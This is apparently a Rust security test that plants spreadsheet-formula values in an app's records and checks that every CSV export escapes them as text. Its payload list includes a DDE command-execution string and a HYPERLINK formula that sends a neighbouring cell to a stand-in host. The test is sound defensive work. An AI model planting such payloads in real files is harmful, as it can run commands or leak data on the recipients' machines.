//! Cells that a spreadsheet would take for a formula, planted in the rows behind every export: the
//! files must hold each of them as text.

use std::collections::BTreeSet;

use db::Dialect;
use http::Method;
use rig::Outcome;
use serde_json::{Value, json};
use testkit::{Caller, World};

use crate::inside::{deal, dice::Dice, in_world, text::cells, unexpected, word};
use crate::{Report, Setting};

/// What a cell can begin with so that some spreadsheet works it out.
const STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// What follows the start: harmless, a call, a link that sends the neighbours away, signs that
/// separate cells, and a minus that is no number.
const ENDS: [&str; 7] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"https://out.example/?\"&A1,\"a\")",
    "SUM(1,2);3",
    "a\r\n=b",
    "12-13",
    "",
];

/// Texts behind the exports, by table: the columns that they show.
const PLACES: [(&str, &[&str]); 5] = [
    ("accounts", &["name", "city", "industry"]),
    ("partners", &["name", "city", "external_id"]),
    ("deal_registrations", &["account_name"]),
    ("direct_opportunities", &["name", "owner_name", "external_id"]),
    ("identity_users", &["name"]),
];

/// What was found in the files.
#[derive(Debug, Default)]
struct Seen {
    files: BTreeSet<String>,
    cells: u64,
    made_safe: BTreeSet<String>,
    planted: u64,
    lost: Vec<String>,
    raw: Vec<String>,
}

/// Plants, exports, reads, counts.
pub(crate) fn run(setting: &Setting) -> Outcome<Report> {
    let rounds = setting.of(1_u64, 20, 100);
    in_world(Dialect::Sqlite, async |world| {
        let reader = Reader::make(world).await?;
        let mut dice = Dice::of(setting.seed, "exports");
        let mut seen = Seen::default();
        for _ in 0..rounds {
            for start in STARTS {
                let mut planted = plant(world, start, &mut dice).await;
                seen.made_safe.clear();
                reader.read_all(world, start, &mut seen).await?;
                if !start.is_whitespace() {
                    planted.push(format!("{start}1+1"));
                }
                seen.miss(&planted);
            }
        }
        let mut report = Report::new();
        report.note("files, each read with each start of a formula", seen.files.len());
        report.note("cells read", seen.cells);
        report.note("formulas planted", seen.planted);
        report.none("formulas that no file shows as text", len(&seen.lost));
        for lost in seen.lost.iter().take(10) {
            report.figure("in no file", lost, "shown", false);
        }
        report.none("cells that a spreadsheet works out", len(&seen.raw));
        for raw in seen.raw.iter().take(10) {
            report.figure("works out", raw, "text", false);
        }
        let mut planted = Seen::default();
        look(
            "planted.csv",
            "id,name\r\n1,=1+1\r\n2,'=1+1\r\n3,\"－a\"\r\n4,-12.5\r\n",
            &mut planted,
        );
        let is_found = planted.raw.len() == 2 && planted.made_safe.len() == 1;
        report.control("a file with two raw cells of four", planted.raw.join(" "), is_found);
        Ok(report)
    })
}

impl Seen {
    /// Notes what was planted and stands in no file as text.
    fn miss(&mut self, planted: &[String]) {
        for text in planted {
            self.planted += 1;
            if !self.made_safe.contains(&format!("'{text}")) {
                self.lost.push(format!("{text:?}"));
            }
        }
    }
}

fn len<T>(list: &[T]) -> u64 {
    u64::try_from(list.len()).unwrap_or(u64::MAX)
}

/// Takes a file apart and counts what its cells are.
fn look(file: &str, content: &str, seen: &mut Seen) {
    seen.files.insert(file.to_owned());
    for (number, line) in cells(content).into_iter().enumerate() {
        for cell in line {
            seen.cells += 1;
            if cell.starts_with('\'') {
                seen.made_safe.insert(cell);
            } else if is_worked_out(&cell) {
                seen.raw.push(format!("{file} line {}: {cell:?}", number + 1));
            }
        }
    }
}

/// Whether a spreadsheet takes it for a formula; a plain negative number is none.
fn is_worked_out(cell: &str) -> bool {
    let number = cell.strip_prefix('-').is_some_and(|digits| {
        digits.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.')
            && digits.bytes().next().is_some_and(|byte| byte.is_ascii_digit())
            && digits.bytes().filter(|byte| *byte == b'.').count() < 2
    });
    cell.starts_with(STARTS) && !number
}

/// Writes formulas into every text that an export shows, past the forms that would refuse some.
async fn plant(world: &World, start: char, dice: &mut Dice) -> Vec<String> {
    let mut statements = Vec::new();
    for (table, columns) in PLACES {
        for column in columns {
            let end = dice.pick(&ENDS).copied().unwrap_or_default();
            let sql = format!("UPDATE {table} SET {column} = $1");
            statements.push((sql, format!("{start}{end}")));
        }
    }
    let end = dice.pick(&ENDS).copied().unwrap_or_default();
    let action = format!("{start}{end}");
    let mut planted: Vec<String> = statements.iter().map(|(_, text)| text.clone()).collect();
    planted.push(action.clone());
    world
        .act(move |cx| {
            for (sql, text) in &statements {
                cx.tx.execute(sql, db::params![text])?;
            }
            let entry = people::audit::Entry {
                action: &action,
                object_kind: "account",
                object_id: &action,
                before: Value::Null,
                after: Value::Null,
            };
            people::audit::record(cx, &entry)
        })
        .await;
    planted
}

/// Who reads the files: a person of the vendor, a person of the partner, and a key.
struct Reader {
    chief: Caller,
    seller: Caller,
    key: Caller,
    partner_id: String,
}

impl Reader {
    /// Makes one of everything that an export shows.
    async fn make(world: &World) -> Outcome<Reader> {
        let chief = world.vendor_user("chief@acme.example", "admin channel_chief operations").await;
        let partner = world.partner("North").await;
        let scopes = "imports:run accounts:read accounts:write direct:read direct:record \
                      registrations:read registrations:decide";
        let key = world.api_key("", scopes).await;
        let account = json!({ "name": "Initech", "domains": ["initech-corp.com"] });
        let made = key.api("POST", "/api/v1/accounts", &account).await;
        let account_id = word(&made.json(), "id").to_owned();
        let opportunity = json!({
            "account_id": account_id, "name": "Renewal",
            "amount": { "minor": 100, "currency": "EUR" }
        });
        let path = "/api/v1/direct-opportunities";
        let opened = key.api("POST", path, &opportunity).await;
        let registration = deal("Globex", "globex-corp.com");
        let path = "/api/v1/deal-registrations";
        let registered = partner.key.api("POST", path, &registration).await;
        for answer in [made, opened, registered] {
            if answer.status != 201 {
                let (status, text) = (answer.status.as_u16(), answer.text());
                return Err(unexpected(&answer.asked, status, &text));
            }
        }
        Ok(Reader { chief, seller: partner.seller, key, partner_id: partner.id })
    }

    /// Reads every route that gives separated text. One that is not known here is an error, so
    /// that no export escapes.
    async fn read_all(&self, world: &World, start: char, seen: &mut Seen) -> Outcome<()> {
        let import = self.faulty_import(world, start).await?;
        let table = world.app.table.routes().iter();
        let mut files: Vec<String> = table
            .filter(|route| {
                route.method == Method::GET && route.path.rsplit('.').next() == Some("csv")
            })
            .map(|route| {
                route.path.replace("{import_id}", &import).replace("{partner_id}", &self.partner_id)
            })
            .collect();
        files.push(format!("/api/v1/imports/{import}/faults?format=csv"));
        for file in files {
            let caller = if file.starts_with("/api/") { &self.key } else { &self.chief };
            let answer = caller.get(&file).await;
            let is_file = answer.header("content-disposition").starts_with("attachment")
                && answer.header("content-type").starts_with("text/csv");
            if answer.status != 200 || !is_file {
                let (status, text) = (answer.status.as_u16(), answer.text());
                return Err(unexpected(&answer.asked, status, &text));
            }
            look(&file.replace(&import, "{import_id}"), &answer.text(), seen);
        }
        let own = self.seller.get("/registrations.csv").await;
        look("/registrations.csv of a partner", &own.text(), seen);
        Ok(())
    }

    /// An import whose findings repeat what the file says.
    async fn faulty_import(&self, world: &World, start: char) -> Outcome<String> {
        let file = format!("name,employees\nGlobex,\"{start}1+1\"\n");
        let key = format!("formula-{}", u32::from(start));
        let path = "/api/v1/imports?kind=accounts&file_name=formulas.csv";
        let headers = [("idempotency-key", key.as_str()), ("content-type", "text/csv")];
        let sent = self.key.send(Method::POST, path, &headers, file.into()).await;
        let id = word(&sent.json(), "id").to_owned();
        if id.is_empty() {
            return Err(unexpected(&sent.asked, sent.status.as_u16(), &sent.text()));
        }
        let path = format!("/api/v1/imports/{id}/check");
        let headers = [("idempotency-key", key.as_str())];
        self.key.api_with("POST", &path, &Value::Null, &headers).await;
        world.run_jobs().await;
        Ok(id)
    }
}
